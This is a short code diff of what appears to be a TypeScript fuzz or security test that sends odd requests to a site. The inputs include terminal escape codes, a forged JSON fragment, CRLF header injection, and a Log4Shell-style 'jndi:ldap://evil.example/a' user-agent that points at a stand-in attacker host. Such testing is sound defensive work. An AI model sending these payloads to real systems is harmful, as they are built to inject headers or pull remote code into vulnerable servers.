@@ -158,7 +158,6 @@ async function strange(site: Site, token: string): Promise<void> {
     '/api/users/%1b%5b2J',
     `/api/events/"},${FORGED}`,
     '/%0a%0a',
-    '/%ff%fe',
     '/api/users/\u009b',
   ];
   const agents = [
@@ -169,6 +168,8 @@ async function strange(site: Site, token: string): Promise<void> {
     '%0d%0a',
     'jndi:ldap://evil.example/a',
   ];
+  // an address that is no text, for whatever looks for a page
+  await raw(site.server.address, `GET /%ff%fe HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
   for (const address of addresses)
     for (const agent of agents)
       for (const signed of ['', `Authorization: Bearer ${token}\r\n`])
